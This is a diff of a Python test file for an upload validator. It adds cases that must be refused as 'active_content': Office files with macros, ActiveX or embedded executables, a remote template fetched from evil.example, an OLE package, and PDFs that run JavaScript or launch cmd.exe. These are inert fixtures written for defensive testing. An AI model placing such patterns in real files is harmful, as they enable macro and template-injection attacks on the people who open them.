@@ -64,7 +64,15 @@ def test_what_is_what_it_says_is_kept_byte_for_byte(storage, data, name, media_t
     (picture("JPEG")[:-2], "cut.jpg", "not_what_it_says"), (picture("PNG"), "a.jpg", "not_what_it_says"),
     (PDF, "a.docx", "not_what_it_says"), (office("word")[:-30], "cut.docx", "not_what_it_says"),
     (office("word"), "really-word.xlsx", "not_what_it_says"),
-    (office("word", word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin"), "macro.docx", "not_what_it_says"),
+    (office("word", word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin"), "macro.docx", "active_content"),
+    (office("ppt", ppt__activeX__activeX1_xml=b"x"), "control.pptx", "active_content"),
+    (office("word", word__embeddings__setup_exe=b"MZ").replace(b"setup_exe", b"setup.exe"), "program.docx", "active_content"),
+    (office("word", word___rels__settings_xml_rels=b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
+            ).replace(b"settings_xml_rels", b"settings.xml.rels"), "template.docx", "active_content"),
+    (office("word", word__body_xml=b'<o:OLEObject ProgID="Package"/>').replace(b"body_xml", b"body.xml"), "package.docx", "active_content"),
+    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000_000 + "_VBA_PROJECT".encode("utf-16-le"), "macro.xls", "active_content"),
+    (PDF.replace(b"<<>>", b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", 1), "script.pdf", "active_content"),
+    (PDF.replace(b"<<>>", b"<</S/Launch/F(cmd.exe)>>", 1), "launch.pdf", "active_content"),
     (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", "kind_not_accepted"), (b"MZ", "a.exe", "kind_not_accepted"),
     (b"x", "no-ending", "kind_not_accepted"), (b"\x00\x01", "a.txt", "not_what_it_says")])
 def test_anything_else_is_refused_with_a_reason_and_leaves_nothing(storage, data, name, code):
